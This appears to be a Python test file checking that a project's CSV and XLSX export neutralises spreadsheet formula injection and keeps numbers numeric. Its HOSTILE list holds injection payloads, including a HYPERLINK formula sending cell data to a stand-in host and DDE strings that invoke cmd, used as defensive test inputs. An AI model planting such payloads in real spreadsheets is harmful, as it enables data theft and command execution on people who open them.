"""No cell leaves as a formula; numbers stay numbers; what comes back is as it was."""

import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest

from sportello.kernel.formulas import neutralised, restored
from sportello.kernel.money import Money
from sportello.ui.export import Column, file_response
from sportello.ui.spreadsheets import Figure, csv_text, figure_or_text, harmless, table_response

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=",
    "-",
    "+390805551234",
    "＝1+1",
    "＠SUM(1)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_be_computed_gets_an_apostrophe_and_loses_it_again(text: str) -> None:
    assert neutralised(text) == "'" + text
    assert restored(neutralised(text)) == text


@pytest.mark.parametrize("text", ["", "Rossi", "D'Amico", "'ndrangheta", "1+1", "a=b", " ="])
def test_other_text_stays(text: str) -> None:
    assert neutralised(text) == text
    assert restored(text) == text


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_no_cell_nor_heading_of_a_file_is_a_formula(text: str, file_format: str) -> None:
    columns = (Column[str]("Nome", lambda row: row), Column[str](text, lambda _row: Money(-1250)))
    content = file_response([text], columns, file_format=file_format, filename="prova").content
    if file_format == "csv":
        assert f"'{text}".replace('"', '""') in content.decode()
        assert "-12,50" in content.decode()
        return
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} == {"s", "n"}
    assert sorted(str(cell.value)[:1] for cell in cells if cell.data_type == "s") == ["'", "'", "N"]
    assert cells[-1].value == -12.5


def test_numbers_and_dates_are_what_they_are() -> None:
    values = [-5, Decimal("-1.5"), True, date(2026, 11, 23), Figure("-12,50")]
    assert [harmless(value) for value in values] == values
    assert harmless(None) == ""


def test_only_a_number_is_a_figure() -> None:
    assert isinstance(figure_or_text("-1.234,50"), Figure)
    assert not isinstance(figure_or_text("-1+1"), Figure)
    with pytest.raises(ValueError, match="no number"):
        Figure("=1")


def test_a_table_without_rows_has_its_headings() -> None:
    assert csv_text(["A", "=B"], []) == "A;'=B\r\n"
    assert table_response(["A"], [], file_format="xlsx", filename="x").status_code == 200
